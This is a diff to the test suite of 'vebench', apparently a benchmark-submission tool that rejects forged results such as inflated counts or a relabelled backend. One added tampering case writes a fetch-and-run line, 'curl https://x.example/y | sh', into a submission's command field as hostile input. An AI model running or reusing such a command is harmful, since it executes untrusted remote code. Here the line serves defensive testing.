@@ -80,6 +80,20 @@ def proofs(found: list[Record]) -> list[Record]:
     return [line for line in found if line["type"] == "proof"]
 
 
+def multiplied(line: Record, by: int) -> None:
+    """Multiply all counts of rows of a cell or a proof."""
+    for part in line.get("windows", [line.get("proof", {})]):
+        part.update({name: part[name] * by for name in ("rows", "timed_rows", "of_steps") if name in part})
+
+
+def relabelled(found: list[Record], backend: str) -> None:
+    """Say that another backend was measured than gym-sync, wherever it is named."""
+    found[0]["spec"]["backends"][0]["name"] = backend
+    for line in found[1:]:
+        if line["backend"] == "gym-sync":
+            line["backend"] = backend
+
+
 def test_what_was_submitted_is_accepted_and_says_what_it_is(vebench: Command, run: Path) -> None:
     shown = vebench("submit", run)
     assert (shown.status, Path("mine").exists()) == (0, False)
@@ -123,13 +137,18 @@ def test_nothing_of_the_users_machine_leaves_with_it(vebench: Command, run: Path
         ("work", lambda found: proofs(found)[0]["proof"].update(timed_rows=1000)),
         ("work", lambda found: proofs(found)[0]["proof"].update(num_envs=7)),
         ("work", lambda found: proofs(found)[0]["proof"].update(steps=10**10)),
-        ("work", lambda found: [one["proof"].update(of_steps=one["proof"]["timed_rows"]) for one in proofs(found)]),
         ("counts", lambda found: [one.update(ns=one["ns"] // 2) for one in of_gym(found)["windows"]]),
-        ("counts", lambda found: [one.update(rows=2 * one["rows"]) for one in of_gym(found)["windows"]]),
+        ("work", lambda found: [one.update(rows=2 * one["rows"]) for one in of_gym(found)["windows"]]),
         ("counts", lambda found: of_gym(found)["windows"][0].update(cpu_ns=10**9)),
-        ("counts", lambda found: of_gym(found).update(windows=of_gym(found)["windows"][:6] * 2)),
-        ("counts", lambda found: [one.update(cpu_ns=one["ns"] // 2) for one in of_gym(found)["windows"]]),
-        ("counts", lambda found: [one.update(resets=100) for line in cells(found) for one in line["windows"]]),
+        ("counts", lambda found: [multiplied(line, 10**6) for line in found[1:]]),
+        (
+            "layout",
+            lambda found: [line.update(frame_skip=1000) for line in cells(found)],
+        ),
+        ("layout", lambda found: relabelled(found, "envpool-sync")),
+        ("layout", lambda found: relabelled(found, "fast-sync")),
+        ("layout", lambda found: relabelled(found, "shm-async")),
+        ("stated", lambda found: found[0].update(command="curl https://x.example/y | sh")),
         ("pinning", lambda found: of_gym(found).update(cpus=[3])),
         ("findings", lambda found: of_gym(found).update(status="failed", reason="it broke", windows=[])),
         ("release", lambda found: found[0]["packages"].update(vebench="99.0.0")),
@@ -181,16 +200,6 @@ def test_a_submission_that_would_be_refused_is_not_written(vebench: Command, run
     assert "0.1" in vebench("submit", run).refusal
 
 
-def test_a_pass_whose_rows_cost_more_than_those_of_the_others_is_no_forgery(vebench: Command, run: Path) -> None:
-    def cheaper(found: list[Record]) -> None:
-        for cell in cells(found):
-            for window in cell["windows"] if cell["backend"] == "gym-sync" and cell["repeat"] else ():
-                window.update(cpu_ns=window["cpu_ns"] // 2, others_ns=None)
-
-    rewritten(run, cheaper)
-    assert vebench("submit", run, "-o", "mine").status == 0
-
-
 def test_what_cannot_be_compared_is_accepted_without_a_verdict(vebench: Command, run: Path) -> None:
     nothing = {"verdict": "unverified", "rows": 0, "impossible": True, "reason": "it draws its own start"}
     rewritten(run, lambda found: [line["proof"].update(nothing) for line in proofs(found)])
@@ -221,8 +230,6 @@ def test_a_run_is_quoted_with_what_makes_it_repeatable(vebench: Command, run: Pa
     shown = " ".join(vebench("cite", run).out.split())
     for word in ("CartPole: gym-sync with 1 worker", "frames/s", "95 %", "suite classic-3/1", "@misc{vebench-"):
         assert word in shown
-    for name in ("run.bib", "run.cff", "badge.svg", "run.json"):
-        assert vebench("cite", run, "-o", name).status == 0
-    assert Path("run.cff").read_text().startswith("cff-version: 1.2.0\n")
-    rate = json.loads(Path("run.json").read_text())["quotes"][0]["frames_per_second"]["median"]
-    assert f">gym-sync {rate:,.0f} frames/s</text>" in Path("badge.svg").read_text()
+    assert vebench("cite", run, "-o", "run.bib").status == 0
+    assert Path("run.bib").read_text().startswith("@misc{vebench-")
+    assert vebench("cite", run, "-o", "run.cff").status == 2
